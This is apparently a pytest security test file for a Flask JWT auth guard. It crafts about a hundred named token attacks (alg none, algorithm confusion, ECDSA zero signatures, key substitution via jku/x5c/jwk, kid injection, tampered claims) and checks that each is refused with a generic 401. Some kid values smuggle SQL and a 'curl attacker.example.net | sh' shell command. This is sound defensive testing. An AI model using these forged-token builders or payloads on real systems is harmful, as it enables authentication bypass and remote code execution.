"""The attack corpus (issue 7): every known JWT attack by name, crafted here, refused by the real guard.

Each case is a bearer token built by this test (base64url, JSON, and a private key or HMAC secret held
by the test: the service's own key where a case needs a valid signature around one wrong property, or
an attacker's key). Each goes through the Flask app's before_request guard to ``GET /admin/users/me``
and must get the one generic answer: 401, the same body and headers byte for byte, never a 500, and
exactly one ``token_refused`` security line that names a reason and holds no part of the token.
Cases where an invite or reset token is expected run at the ``tokens`` level, since no route on this
branch takes those kinds yet. The controls show that the crafting itself is right: the same builders
with nothing wrong get past the guard. The last section sends validly signed tokens of one actor type
where another's is expected (a customer's on /admin, a user's on /store/customers/me, ...): the same 401.

Anchors: RFC 8725, the OWASP JWT cheat sheet, and the CVEs of Python JOSE libraries (algorithm
confusion, ``alg: none``, unenforced ``crit``, trusted ``jwk``/``jku``/``x5c``, oversized input, recursion).
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import itertools
import json
import logging
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.x509.oid import NameOID
from flask import Flask
from joserfc.jwk import ECKey, RSAKey

from medusa_auth import clock
from medusa_auth.extension import medusa_auth
from medusa_auth.keys.keyset import P256_ORDER, ecdsa_s
from medusa_auth.keys.material import generate_private_key, private_key_pem
from medusa_auth.tokens import InvalidToken, TokenKind
from tests.helpers import (
    DROP,
    NOW,
    Issuer,
    api_key_attacks,
    b64,
    load_private,
    make_issuer,
    part,
    public_pem,
    security_events,
    unb64,
)

ISSUER = "https://auth.example.com"
AUDIENCE = "admin"
ATTACKER_URL = "https://attacker.example.net"
REFUSED = {"type": "unauthorized", "message": "Invalid auth token provided"}
TARGET = "/admin/users/me"

pytestmark = pytest.mark.usefixtures("clock_at_now")  # the crafted claims are valid at NOW: the guard's clock reads it


@dataclass
class Target:
    """The service under attack (an app and the Issuer that crafts tokens with its key) and the attacker's own key."""

    app: Flask
    issuer: Issuer
    attacker: Any  # a private key of the same type as the service's

    def craft(self, payload: Any = None, header: Any = None, **kwargs: Any) -> str:
        return self.issuer.craft(payload, header, **kwargs)

    def claims(self, **changes: Any) -> dict[str, Any]:
        return self.issuer.claims(**changes)

    def header(self, **changes: Any) -> dict[str, Any]:
        return self.issuer.header(**changes)

    def public_key(self) -> Any:
        return self.issuer.private.public_key()

    def sign_as(self, kind: TokenKind, claims: dict[str, Any]) -> str:
        """A token of ``kind`` issued by the service itself (validly signed, right key, right kid)."""
        with self.app.app_context():
            return medusa_auth().tokens.sign(kind, claims, 3600)


@dataclass(frozen=True)
class Attack:
    name: str
    key_type: str  # "RSA" (RS256) or "EC" (ES256): the service's key in this case
    build: Callable[[Target], str]


# -- crafting helpers ----------------------------------------------------------------------------


def hmac_token(
    target: Target, secret: bytes, header: dict[str, Any], payload: Any = None, digest: str = "sha256"
) -> str:
    """HS256/384/512 over the service's claims, keyed with whatever the attacker thinks the verifier will use."""
    signing_input = f"{b64(part(header))}.{b64(part(target.claims() if payload is None else payload))}"
    signature = hmac.new(secret, signing_input.encode(), getattr(hashlib, digest)).digest()
    return f"{signing_input}.{b64(signature)}"


def confusion(public_bytes: Callable[[Target], bytes], alg: str = "HS256") -> Callable[[Target], str]:
    """Algorithm confusion: the published public key, in some encoding, used as an HMAC secret."""
    digest = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}[alg]
    return lambda t: hmac_token(t, public_bytes(t), t.header(alg=alg), digest=digest)


def spki(encoding: serialization.Encoding) -> Callable[[Target], bytes]:
    return lambda t: t.public_key().public_bytes(encoding, serialization.PublicFormat.SubjectPublicKeyInfo)


def published_jwk(t: Target) -> bytes:
    """The key exactly as the JWKS publishes it (what an attacker downloads first)."""
    with t.app.test_client() as client:
        [key] = client.get("/.well-known/jwks.json").get_json()["keys"]
    return json.dumps(key).encode()


def with_signature(signature: Callable[[Target, bytes], bytes]) -> Callable[[Target], str]:
    """The service's valid header and claims around a signature computed from the valid one."""

    def build(t: Target) -> str:
        header, payload, valid = t.craft().split(".")
        return f"{header}.{payload}.{b64(signature(t, unb64(valid)))}"

    return build


def raw_ecdsa(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def high_s(signature: bytes) -> bytes:
    """(r, s) -> (r, n - s): the same signature's other spelling, which ECDSA verifies too."""
    r, s = int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big")
    return raw_ecdsa(r, P256_ORDER - s)


def as_der(t: Target, signature: bytes) -> bytes:
    return encode_dss_signature(int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big"))


def by_attacker(**header_changes: Any) -> Callable[[Target], str]:
    """Signed with the attacker's key, header changed as given (to point the verifier at the attacker's key)."""
    return lambda t: t.craft(header=t.header(**header_changes), key=t.attacker)


def attacker_jwk(t: Target) -> dict[str, Any]:
    cls = ECKey if isinstance(t.attacker, ec.EllipticCurvePrivateKey) else RSAKey
    return cls.import_key(public_pem(t.attacker)).as_dict(private=False)


def attacker_certificate(t: Target) -> str:
    """A self-signed certificate for the attacker's key, as x5c carries it (base64 DER)."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "auth.example.com")])
    start = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(t.attacker.public_key())
        .serial_number(1)
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=3650 * 3))
        .sign(t.attacker, hashes.SHA256())
    )
    return base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()


def x5c_attack(t: Target) -> str:
    return t.craft(header=t.header(x5c=[attacker_certificate(t)], kid=DROP), key=t.attacker)


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def payload_with_raw(t: Target, claim: str, literal: str) -> str:
    raw = json.dumps(t.claims(**{claim: "@@@"}), separators=(",", ":"))
    return raw.replace('"@@@"', literal)


def segments(t: Target) -> list[str]:
    return t.craft().split(".")


def own_kind(kind: TokenKind, claims: dict[str, Any]) -> Callable[[Target], str]:
    """A token of ``kind`` the service itself signs (``DROP`` leaves a claim out)."""
    return lambda t: t.sign_as(kind, {k: v for k, v in claims.items() if v is not DROP})


REGISTRATION_CLAIMS = {"actor_id": "", "actor_type": "user", "auth_identity_id": "authid_1", "app_metadata": {}}
INVITE_CLAIMS = {"id": "invite_1", "email": "new@example.com"}
RESET_CLAIMS = {"entity_id": "admin@example.com", "actor_type": "user", "purpose": "reset"}


def every_letter_case(word: str) -> list[str]:
    return ["".join(letters) for letters in itertools.product(*((c.lower(), c.upper()) for c in word))]


# -- the corpus ----------------------------------------------------------------------------------

ATTACKS: list[Attack] = [
    # alg none, in every letter case, with the signature left empty
    *(
        Attack(
            f"alg-{alg}-empty-signature",
            "RSA",
            lambda t, alg=alg: f"{b64(part(t.header(alg=alg)))}.{b64(part(t.claims()))}.",
        )
        for alg in every_letter_case("none")
    ),
    Attack(
        "alg-none-with-the-valid-signature-kept",
        "RSA",
        lambda t: ".".join([b64(part(t.header(alg="none"))), *segments(t)[1:]]),
    ),
    Attack(
        "alg-none-without-kid", "RSA", lambda t: f"{b64(part({'alg': 'none', 'typ': 'JWT'}))}.{b64(part(t.claims()))}."
    ),
    Attack("alg-missing", "RSA", lambda t: t.craft(header=t.header(alg=DROP))),
    Attack("alg-empty-string", "RSA", lambda t: t.craft(header=t.header(alg=""))),
    # signatures emptied, stripped, cut, or moved
    Attack("signature-empty", "RSA", lambda t: ".".join([*segments(t)[:2], ""])),
    Attack("signature-stripped-two-segments", "RSA", lambda t: ".".join(segments(t)[:2])),
    Attack("signature-truncated-by-one-byte", "RSA", with_signature(lambda t, s: s[:-1])),
    Attack("signature-one-bit-flipped", "RSA", with_signature(lambda t, s: s[:-1] + bytes([s[-1] ^ 1]))),
    Attack(
        "signature-moved-to-other-claims",
        "RSA",
        lambda t: ".".join([segments(t)[0], b64(part(t.claims(actor_id="user_admin"))), segments(t)[2]]),
    ),
    # algorithm confusion: the public key (which the JWKS publishes) as an HMAC secret
    Attack("hs256-keyed-with-rsa-public-pem", "RSA", confusion(spki(serialization.Encoding.PEM))),
    Attack(
        "hs256-keyed-with-rsa-public-pem-stripped",
        "RSA",
        confusion(lambda t: spki(serialization.Encoding.PEM)(t).strip()),
    ),
    Attack("hs256-keyed-with-rsa-public-der", "RSA", confusion(spki(serialization.Encoding.DER))),
    Attack(
        "hs256-keyed-with-rsa-pkcs1-pem",
        "RSA",
        confusion(lambda t: t.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)),
    ),
    Attack("hs256-keyed-with-the-published-jwk", "RSA", confusion(published_jwk)),
    Attack("hs384-keyed-with-rsa-public-pem", "RSA", confusion(spki(serialization.Encoding.PEM), "HS384")),
    Attack("hs512-keyed-with-rsa-public-der", "RSA", confusion(spki(serialization.Encoding.DER), "HS512")),
    Attack("hs256-keyed-with-ec-public-pem", "EC", confusion(spki(serialization.Encoding.PEM))),
    Attack("hs256-keyed-with-ec-public-der", "EC", confusion(spki(serialization.Encoding.DER))),
    Attack(
        "hs256-keyed-with-ec-public-point",
        "EC",
        confusion(
            lambda t: t.public_key().public_bytes(
                serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint
            )
        ),
    ),
    Attack("ps256-signature-by-the-rs256-key", "RSA", lambda t: t.craft(header=t.header(alg="PS256"), alg="PS256")),
    Attack("rs256-header-on-the-es256-key", "EC", lambda t: t.craft(header=t.header(alg="RS256"))),
    # ECDSA: the "psychic signature" zeros (CVE-2022-21449), out-of-range values, other encodings
    Attack("ecdsa-r-and-s-zero", "EC", with_signature(lambda t, s: raw_ecdsa(0, 0))),
    Attack("ecdsa-r-zero", "EC", with_signature(lambda t, s: raw_ecdsa(0, int.from_bytes(s[32:], "big")))),
    Attack("ecdsa-s-zero", "EC", with_signature(lambda t, s: raw_ecdsa(int.from_bytes(s[:32], "big"), 0))),
    Attack("ecdsa-r-and-s-equal-n", "EC", with_signature(lambda t, s: raw_ecdsa(P256_ORDER, P256_ORDER))),
    Attack("ecdsa-r-and-s-all-ones", "EC", with_signature(lambda t, s: b"\xff" * 64)),
    Attack("ecdsa-signature-der-encoded", "EC", with_signature(as_der)),
    Attack("ecdsa-signature-63-bytes", "EC", with_signature(lambda t, s: s[1:])),
    Attack("ecdsa-signature-96-bytes", "EC", with_signature(lambda t, s: s + s[:32])),
    Attack(
        "ecdsa-high-s-twin-over-other-claims",
        "EC",
        lambda t: ".".join(
            [segments(t)[0], b64(part(t.claims(actor_id="user_admin"))), b64(high_s(unb64(segments(t)[2])))]
        ),
    ),
    # kid: path traversal, SQL, shell, very long, non-ASCII (each signed by a key the attacker has)
    Attack(
        "kid-path-traversal-to-dev-null-hs256-empty-key",
        "RSA",
        lambda t: hmac_token(t, b"", t.header(alg="HS256", kid="../../../../../../dev/null")),
    ),
    Attack("kid-path-traversal-encoded", "RSA", by_attacker(kid="..%2F..%2F..%2Fetc%2Fpasswd")),
    Attack(
        "kid-sql-injection-union",
        "RSA",
        lambda t: hmac_token(t, b"secret", t.header(alg="HS256", kid="x' UNION SELECT 'secret' -- ")),
    ),
    Attack("kid-sql-injection-or-true", "RSA", by_attacker(kid="' OR '1'='1")),
    Attack("kid-shell-injection", "RSA", by_attacker(kid="key; curl https://attacker.example.net | sh")),
    Attack("kid-very-long", "RSA", by_attacker(kid="k" * 4000)),
    Attack("kid-non-ascii", "RSA", by_attacker(kid="ключ-🔑")),
    Attack("kid-right-to-left-override", "RSA", by_attacker(kid="\u202egnp.yek")),
    Attack(
        "kid-null-byte-after-the-real-kid",
        "RSA",
        lambda t: t.craft(header=t.header(kid=t.issuer.kid + "\x00"), key=t.attacker),
    ),
    Attack("kid-not-a-string", "RSA", by_attacker(kid={"$ne": None})),
    # header members that would hand the choice of key to the attacker
    Attack("jku-to-the-attackers-jwks", "RSA", by_attacker(jku=f"{ATTACKER_URL}/jwks.json", kid="attacker-key")),
    Attack(
        "jku-to-the-attackers-jwks-naming-our-kid",
        "RSA",
        lambda t: t.craft(header=t.header(jku=f"{ATTACKER_URL}/jwks.json"), key=t.attacker),
    ),
    Attack("x5u-to-the-attackers-certificate", "RSA", by_attacker(x5u=f"{ATTACKER_URL}/cert.pem")),
    Attack("x5c-with-the-attackers-self-signed-certificate", "RSA", x5c_attack),
    Attack("x5c-with-the-attackers-certificate-on-ec", "EC", x5c_attack),
    Attack(
        "jwk-embedded-attacker-key",
        "RSA",
        lambda t: t.craft(header=t.header(jwk=attacker_jwk(t), kid=DROP), key=t.attacker),
    ),
    Attack(
        "jwk-embedded-attacker-key-naming-our-kid",
        "EC",
        lambda t: t.craft(header=t.header(jwk=attacker_jwk(t)), key=t.attacker),
    ),
    Attack(
        "jwk-embedded-symmetric-key",
        "RSA",
        lambda t: hmac_token(t, b"attacker", t.header(alg="HS256", jwk={"kty": "oct", "k": b64(b"attacker")})),
    ),
    # crit: extensions the verifier does not understand must not be ignored (RFC 7515 §4.1.11)
    Attack(
        "crit-unknown-extension",
        "RSA",
        lambda t: t.craft(header=t.header(crit=["urn:attacker:ext"], **{"urn:attacker:ext": True})),
    ),
    Attack("crit-b64-false-unencoded-payload", "RSA", lambda t: t.craft(header=t.header(crit=["b64"], b64=False))),
    Attack("crit-naming-a-registered-claim", "RSA", lambda t: t.craft(header=t.header(crit=["exp"]))),
    Attack("crit-empty-list", "RSA", lambda t: t.craft(header=t.header(crit=[]))),
    # time
    Attack("expired-an-hour-ago", "RSA", lambda t: t.craft(t.claims(iat=NOW - 7200, exp=NOW - 3600))),
    Attack("expired-just-beyond-the-leeway", "RSA", lambda t: t.craft(t.claims(exp=NOW - clock.LEEWAY_SECONDS - 1))),
    Attack("nbf-in-the-future", "RSA", lambda t: t.craft(t.claims(nbf=NOW + 3600))),
    Attack(
        "iat-far-in-the-future",
        "RSA",
        lambda t: t.craft(t.claims(iat=NOW + 10 * 365 * 86400, exp=NOW + 11 * 365 * 86400)),
    ),
    Attack("exp-missing", "RSA", lambda t: t.craft(t.claims(exp=DROP))),
    Attack("exp-as-a-string", "RSA", lambda t: t.craft(t.claims(exp=str(NOW + 3600)))),
    Attack("exp-null", "RSA", lambda t: t.craft(t.claims(exp=None))),
    Attack("exp-401-digits", "RSA", lambda t: t.craft(payload_with_raw(t, "exp", "1" + "0" * 400))),
    Attack("exp-nan", "RSA", lambda t: t.craft(payload_with_raw(t, "exp", "NaN"))),
    # issuer and audience (this service sets and requires both)
    Attack("iss-wrong", "RSA", lambda t: t.craft(t.claims(iss="https://attacker.example.net"))),
    Attack("iss-missing", "RSA", lambda t: t.craft(t.claims(iss=DROP))),
    Attack("iss-as-a-list", "RSA", lambda t: t.craft(t.claims(iss=[ISSUER]))),
    Attack("aud-wrong", "RSA", lambda t: t.craft(t.claims(aud="store"))),
    Attack("aud-missing", "RSA", lambda t: t.craft(t.claims(aud=DROP))),
    Attack("aud-empty-list", "RSA", lambda t: t.craft(t.claims(aud=[]))),
    # strict JSON
    Attack(
        "duplicate-alg-in-header",
        "RSA",
        lambda t: t.craft(header=f'{{"alg":"none","alg":"RS256","typ":"JWT","kid":"{t.issuer.kid}"}}'),
    ),
    Attack(
        "duplicate-kid-in-header",
        "RSA",
        lambda t: t.craft(header=f'{{"alg":"RS256","kid":"attacker","kid":"{t.issuer.kid}"}}'),
    ),
    Attack(
        "duplicate-actor-id-in-payload",
        "RSA",
        lambda t: t.craft(json.dumps(t.claims(), separators=(",", ":"))[:-1] + ',"actor_id":"user_admin"}'),
    ),
    Attack(
        "duplicate-exp-in-payload",
        "RSA",
        lambda t: t.craft(json.dumps(t.claims(), separators=(",", ":"))[:-1] + f',"exp":{NOW + 10**8}}}'),
    ),
    Attack("deeply-nested-payload", "RSA", lambda t: t.craft(payload_with_raw(t, "user_metadata", nested(2500)))),
    Attack(
        "deeply-nested-header",
        "RSA",
        lambda t: t.craft(header=json.dumps(t.header(typ="@@@")).replace('"@@@"', nested(2500))),
    ),
    Attack("payload-a-json-array", "RSA", lambda t: t.craft(f"[{json.dumps(t.claims())}]")),
    Attack("payload-not-utf8", "RSA", lambda t: t.craft(b"\xff\xfe" + part(t.claims()))),
    # size
    Attack(
        "token-of-3-mib-validly-signed",
        "RSA",
        lambda t: t.craft(t.claims(user_metadata={"bio": "a" * 3 * 1024 * 1024})),
    ),
    Attack("token-of-3-mib-garbage", "RSA", lambda t: "A" * (3 * 1024 * 1024)),
    # the compact form
    Attack(
        "base64-standard-alphabet",
        "RSA",
        lambda t: t.craft(t.claims(user_metadata={"x": "\xff\xfe\xfd" * 8})).replace("-", "+").replace("_", "/"),
    ),
    Attack("base64-padding", "RSA", lambda t: ".".join(s + "=" * (-len(s) % 4 or 4) for s in segments(t))),
    Attack(
        "base64-invalid-character",
        "RSA",
        lambda t: ".".join([segments(t)[0], "!" + segments(t)[1][1:], segments(t)[2]]),
    ),
    Attack(
        "base64-impossible-length",
        "RSA",
        lambda t: ".".join([segments(t)[0], segments(t)[1] + "A" * ((1 - len(segments(t)[1])) % 4), segments(t)[2]]),
    ),
    Attack("extra-fourth-segment", "RSA", lambda t: t.craft() + "." + segments(t)[2]),
    Attack(
        "five-segments-shaped-like-a-jwe",
        "RSA",
        lambda t: ".".join([b64(part({"alg": "dir", "enc": "A256GCM"})), "", b64(b"iv"), segments(t)[1], b64(b"tag")]),
    ),
    Attack("whitespace-inside-the-token", "RSA", lambda t: t.craft().replace(".", ". ", 1)),
    Attack("tab-inside-the-token", "RSA", lambda t: t.craft().replace(".", ".\t", 1)),
    Attack("two-tokens-in-one-header", "RSA", lambda t: f"{t.craft()} {t.craft()}"),
    # a valid token of another kind where an access token is required
    Attack("registration-token-for-admin", "RSA", own_kind(TokenKind.REGISTRATION, REGISTRATION_CLAIMS)),
    Attack("invite-token-for-admin", "RSA", own_kind(TokenKind.INVITE, INVITE_CLAIMS)),
    Attack("reset-token-for-admin", "RSA", own_kind(TokenKind.RESET, RESET_CLAIMS)),
    Attack("reset-token-for-admin-on-es256", "EC", own_kind(TokenKind.RESET, RESET_CLAIMS)),
    Attack("access-claims-under-an-invite-typ", "RSA", lambda t: t.sign_as(TokenKind.INVITE, t.claims())),
    # keys the service does not hold
    Attack("signed-by-an-unknown-key-with-its-own-kid", "RSA", by_attacker(kid="attacker-key-1")),
    Attack("signed-by-an-unknown-key-naming-our-kid", "RSA", lambda t: t.craft(key=t.attacker)),
    Attack("signed-by-an-unknown-key-without-kid", "EC", by_attacker(kid=DROP)),
    Attack("signed-by-a-key-no-longer-configured", "RSA", lambda t: previous_key_token(t)),
]


def previous_key_token(t: Target) -> str:
    """A token the service really issued under its previous key, replayed after that key was replaced."""
    old_private = t.attacker  # the key the service used before; it no longer appears in its configuration
    old = make_issuer(
        {"JWT_SECRET_KEY": private_key_pem(old_private), "JWT_ISSUER": ISSUER, "JWT_AUDIENCE": AUDIENCE}, old_private
    )
    return old.tokens.issue_auth_token("authid_1", "user_01", {})


# -- fixtures ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def attacker_keys() -> dict[str, Any]:
    return {"RSA": generate_private_key("RSA"), "EC": generate_private_key("EC")}


@pytest.fixture
def make_target(app_factory: Callable[..., Flask], rsa_pem: str, ec_pem: str, attacker_keys: dict[str, Any]):
    def build(key_type: str) -> Target:
        pem = {"RSA": rsa_pem, "EC": ec_pem}[key_type]
        environ = {"JWT_SECRET_KEY": pem, "JWT_ISSUER": ISSUER, "JWT_AUDIENCE": AUDIENCE}
        app = app_factory(**environ)
        return Target(app, make_issuer(environ, load_private(pem)), attacker_keys[key_type])

    return build


def send(target: Target, token: str) -> Any:
    with target.app.test_client() as client:
        return client.get(TARGET, headers={"Authorization": f"Bearer {token}"})


def refusal_reference(target: Target) -> Any:
    with target.app.test_client() as client:
        return client.get(TARGET)


# -- the tests -----------------------------------------------------------------------------------


def test_the_corpus_names_are_unique_and_cover_both_key_types():
    names = [a.name for a in ATTACKS]
    assert len(names) == len(set(names))
    assert {a.key_type for a in ATTACKS} == {"RSA", "EC"}
    assert len(ATTACKS) >= 100


@pytest.mark.parametrize("key_type", ["RSA", "EC"])
def test_control_the_same_crafting_with_nothing_wrong_gets_past_the_guard(make_target, key_type: str):
    """Else a refusal could be the crafting's fault: valid crafted tokens reach the route (404: no such user)."""
    target = make_target(key_type)
    for token in (target.craft(), target.sign_as(TokenKind.ACCESS, target.claims())):
        response = send(target, token)
        assert response.status_code == 404, response.get_data(as_text=True)
        assert response.get_json()["type"] == "not_found"


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_attack_is_refused_with_the_generic_401(make_target, attack: Attack, caplog: pytest.LogCaptureFixture):
    target = make_target(attack.key_type)
    token = attack.build(target)
    reference = refusal_reference(target)
    caplog.clear()
    caplog.set_level(logging.INFO, logger="medusa_auth.security")

    response = send(target, token)

    assert response.status_code == 401, (attack.name, response.status_code, response.get_data()[:300])
    assert response.get_json() == REFUSED
    assert response.get_data() == reference.get_data()
    assert dict(response.headers) == dict(reference.headers)
    events = security_events(caplog)
    assert [e["event"] for e in events] == ["token_refused"], events
    assert events[0]["reason"]
    for piece in {token, *token.split(".")} - {""}:
        if len(piece) >= 16:
            assert piece not in caplog.text


# -- where an invite or reset token is expected (tokens level: their routes live on other branches) --


def ecdsa_twin(token: str) -> str:
    header, payload, signature = token.split(".")
    return f"{header}.{payload}.{b64(high_s(unb64(signature)))}"


def own_low_s_token(target: Target, kind: TokenKind, claims: dict[str, Any]) -> str:
    token = target.sign_as(kind, claims)
    assert ecdsa_s(unb64(token.split(".")[2])) <= P256_ORDER // 2
    return token


KIND_ATTACKS: list[tuple[str, str, Callable[[Target], str], TokenKind]] = [
    ("access-token-where-invite-expected", "RSA", lambda t: t.craft(), TokenKind.INVITE),
    ("access-token-where-reset-expected", "RSA", lambda t: t.craft(), TokenKind.RESET),
    (
        "registration-token-where-invite-expected",
        "RSA",
        own_kind(TokenKind.REGISTRATION, REGISTRATION_CLAIMS),
        TokenKind.INVITE,
    ),
    ("reset-token-where-invite-expected", "RSA", own_kind(TokenKind.RESET, RESET_CLAIMS), TokenKind.INVITE),
    ("invite-token-where-reset-expected", "RSA", own_kind(TokenKind.INVITE, INVITE_CLAIMS), TokenKind.RESET),
    ("invite-claims-under-typ-jwt", "RSA", own_kind(TokenKind.ACCESS, INVITE_CLAIMS), TokenKind.INVITE),
    ("reset-claims-under-typ-jwt", "RSA", own_kind(TokenKind.ACCESS, RESET_CLAIMS), TokenKind.RESET),
    ("reset-typ-without-purpose", "RSA", own_kind(TokenKind.RESET, {**RESET_CLAIMS, "purpose": DROP}), TokenKind.RESET),
    (
        "invite-high-s-twin",
        "EC",
        lambda t: ecdsa_twin(own_low_s_token(t, TokenKind.INVITE, INVITE_CLAIMS)),
        TokenKind.INVITE,
    ),
    (
        "reset-high-s-twin",
        "EC",
        lambda t: ecdsa_twin(own_low_s_token(t, TokenKind.RESET, RESET_CLAIMS)),
        TokenKind.RESET,
    ),
]


@pytest.mark.parametrize(("name", "key_type", "build", "expected"), KIND_ATTACKS, ids=[k[0] for k in KIND_ATTACKS])
def test_token_of_the_wrong_kind_or_spelling_is_refused_where_invite_or_reset_is_expected(
    make_target, name: str, key_type: str, build: Callable[[Target], str], expected: TokenKind
):
    target = make_target(key_type)
    token = build(target)
    with target.app.app_context(), pytest.raises(InvalidToken):
        medusa_auth().tokens.verify(token, {expected})


@pytest.mark.parametrize("kind,claims", [(TokenKind.INVITE, INVITE_CLAIMS), (TokenKind.RESET, RESET_CLAIMS)])
def test_control_the_service_own_invite_and_reset_tokens_verify(make_target, kind: TokenKind, claims: dict[str, Any]):
    for key_type in ("RSA", "EC"):
        target = make_target(key_type)
        with target.app.app_context():
            assert medusa_auth().tokens.verify(own_kind(kind, claims)(target), {kind})


# -- what is deliberately not refused -------------------------------------------------------------


def test_the_service_signs_es256_with_low_s_only(make_target):
    target = make_target("EC")
    with target.app.app_context():
        tokens = medusa_auth().tokens
        signatures = [unb64(tokens.issue_auth_token("authid_1", f"user_{n}", {}).split(".")[2]) for n in range(64)]
    assert all(ecdsa_s(s) <= P256_ORDER // 2 for s in signatures)


def test_high_s_twin_of_an_access_token_is_accepted_for_nodes_es256_signers(make_target):
    """Decision: Node's jsonwebtoken (OpenSSL) writes high s half the time, and SPEC §8 has us accept its tokens.

    The twin carries the same claims, expiry and jti as a token the holder already has, so accepting
    it grants nothing; what must have one spelling (single-use invite and reset tokens) refuses it above.
    """
    target = make_target("EC")
    token = own_low_s_token(target, TokenKind.ACCESS, target.claims())
    twin = ecdsa_twin(token)
    assert twin != token
    assert ecdsa_s(unb64(twin.split(".")[2])) > P256_ORDER // 2
    assert send(target, twin).status_code == 404  # past the guard (no such user)


def test_the_attacker_keys_differ_from_the_service_keys(make_target):
    for key_type in ("RSA", "EC"):
        target = make_target(key_type)
        assert public_pem(target.attacker) != public_pem(target.issuer.private)
        assert isinstance(target.attacker, rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey)


# -- one actor type's token where another's is expected (SPEC §9) ----------------------------------
#
# Every token here is validly signed by the service's own key (crafted here, or issued by the service),
# so the only thing wrong with it is whose it is; each must get the same 401 as a forged token on that
# route, byte for byte, with one token_refused line.

CUSTOMER_ID = "cus_01"


def customer_claims(t: Target, **changes: Any) -> dict[str, Any]:
    customer = {"actor_type": "customer", "actor_id": CUSTOMER_ID, "app_metadata": {"customer_id": CUSTOMER_ID}}
    return t.claims(**{**customer, **changes})


CUSTOMER_REGISTRATION_CLAIMS = {**REGISTRATION_CLAIMS, "actor_type": "customer"}
CUSTOMER_RESET_CLAIMS = {**RESET_CLAIMS, "actor_type": "customer", "provider": "emailpass"}


@dataclass(frozen=True)
class CrossActor:
    name: str
    method: str
    path: str
    build: Callable[[Target], str]


CROSS_ACTOR: list[CrossActor] = [
    CrossActor("customer-access-token-on-admin", "GET", "/admin/users/me", lambda t: t.craft(customer_claims(t))),
    CrossActor(
        "customer-access-token-issued-by-the-service-on-admin",
        "GET",
        "/admin/users",
        lambda t: t.sign_as(TokenKind.ACCESS, customer_claims(t)),
    ),
    CrossActor(
        "customer-access-token-creating-an-invite", "POST", "/admin/invites", lambda t: t.craft(customer_claims(t))
    ),
    CrossActor(
        "customer-registration-token-accepting-an-invite",
        "POST",
        "/admin/invites/accept?token=x",
        own_kind(TokenKind.REGISTRATION, CUSTOMER_REGISTRATION_CLAIMS),
    ),
    CrossActor("user-access-token-on-store-me", "GET", "/store/customers/me", lambda t: t.craft()),
    CrossActor("user-access-token-updating-store-me", "POST", "/store/customers/me", lambda t: t.craft()),
    CrossActor(
        "user-registration-token-creating-a-customer",
        "POST",
        "/store/customers",
        own_kind(TokenKind.REGISTRATION, REGISTRATION_CLAIMS),
    ),
    CrossActor("user-access-token-creating-a-customer", "POST", "/store/customers", lambda t: t.craft()),
    CrossActor(
        "customer-registration-token-on-store-me",
        "GET",
        "/store/customers/me",
        own_kind(TokenKind.REGISTRATION, CUSTOMER_REGISTRATION_CLAIMS),
    ),
    CrossActor(
        "user-reset-token-on-the-customer-update-route",
        "POST",
        "/auth/customer/emailpass/update",
        own_kind(TokenKind.RESET, RESET_CLAIMS),
    ),
    CrossActor(
        "customer-reset-token-on-the-user-update-route",
        "POST",
        "/auth/user/emailpass/update",
        own_kind(TokenKind.RESET, CUSTOMER_RESET_CLAIMS),
    ),
    CrossActor(
        "user-access-token-on-the-customer-update-route",
        "POST",
        "/auth/customer/emailpass/update",
        lambda t: t.craft(),
    ),
    CrossActor(
        "invite-token-creating-a-customer", "POST", "/store/customers", own_kind(TokenKind.INVITE, INVITE_CLAIMS)
    ),
    CrossActor(
        "customer-reset-token-creating-a-customer",
        "POST",
        "/store/customers",
        own_kind(TokenKind.RESET, CUSTOMER_RESET_CLAIMS),
    ),
    CrossActor(
        "user-type-with-a-customer-link-on-store-me",
        "GET",
        "/store/customers/me",
        lambda t: t.craft(t.claims(actor_id=CUSTOMER_ID, app_metadata={"customer_id": CUSTOMER_ID})),
    ),
    CrossActor(
        "an-actor-type-nobody-configured-on-admin",
        "GET",
        "/admin/users/me",
        lambda t: t.craft(t.claims(actor_type="manager", app_metadata={"manager_id": "user_01"})),
    ),
    CrossActor(
        "actor-type-customer-in-another-case-on-store-me",
        "GET",
        "/store/customers/me",
        lambda t: t.craft(customer_claims(t, actor_type="Customer")),
    ),
    CrossActor(
        "actor-type-as-a-list-on-store-me",
        "GET",
        "/store/customers/me",
        lambda t: t.craft(customer_claims(t, actor_type=["customer"])),
    ),
    CrossActor(
        "actor-type-missing-on-store-me",
        "GET",
        "/store/customers/me",
        lambda t: t.craft(customer_claims(t, actor_type=DROP)),
    ),
    CrossActor(
        "customer-token-with-a-user-link-on-admin",
        "GET",
        "/admin/users/me",
        lambda t: t.craft(customer_claims(t, actor_id="user_01", app_metadata={"user_id": "user_01"})),
    ),
]


def send_as(target: Target, method: str, path: str, token: str | None) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
    with target.app.test_client() as client:
        return client.open(path, method=method, headers=headers, json={} if method == "POST" else None)


def test_the_cross_actor_names_are_unique():
    assert len({c.name for c in CROSS_ACTOR}) == len(CROSS_ACTOR) >= 20


@pytest.mark.parametrize("case", CROSS_ACTOR, ids=lambda c: c.name)
def test_a_token_of_another_actor_type_is_refused_like_a_forged_one(
    make_target, case: CrossActor, caplog: pytest.LogCaptureFixture
):
    target = make_target("RSA")
    token = case.build(target)
    reference = send_as(target, case.method, case.path, None)
